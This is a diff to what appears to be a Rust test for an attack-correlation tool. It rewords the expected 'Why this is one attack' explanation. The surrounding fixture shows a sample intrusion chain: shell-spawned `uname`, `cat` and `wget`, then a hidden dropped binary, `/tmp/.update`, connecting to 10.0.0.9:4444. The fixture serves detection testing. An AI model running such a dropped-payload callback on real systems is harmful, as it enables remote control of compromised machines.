@@ -123,8 +123,8 @@ fn an_attack_beside_honest_requests_is_one_story_that_holds_none_of_them() {
                6. 18:02:03.070 dropped_binary_connected (`/tmp/.update 10.0.0.9 4444` (pid 105), peer `10.0.0.9:4444`). [T1071 Application Layer Protocol, T1571 Non-Standard Port] (e-0000000000000007000000000000042e)
 
             Why this is one attack
-              Steps 2, 3, 4 and 5 are caused by step 1.
-              Step 6 is caused by step 5.
+              Steps 2, 3, 4 and 5: caused by step 1.
+              Step 6: caused by step 5.
               `sh` (pid 100) started `uname` (pid 101).
               `sh` (pid 100) started `cat` (pid 102).
               `sh` (pid 100) started `wget` (pid 103).
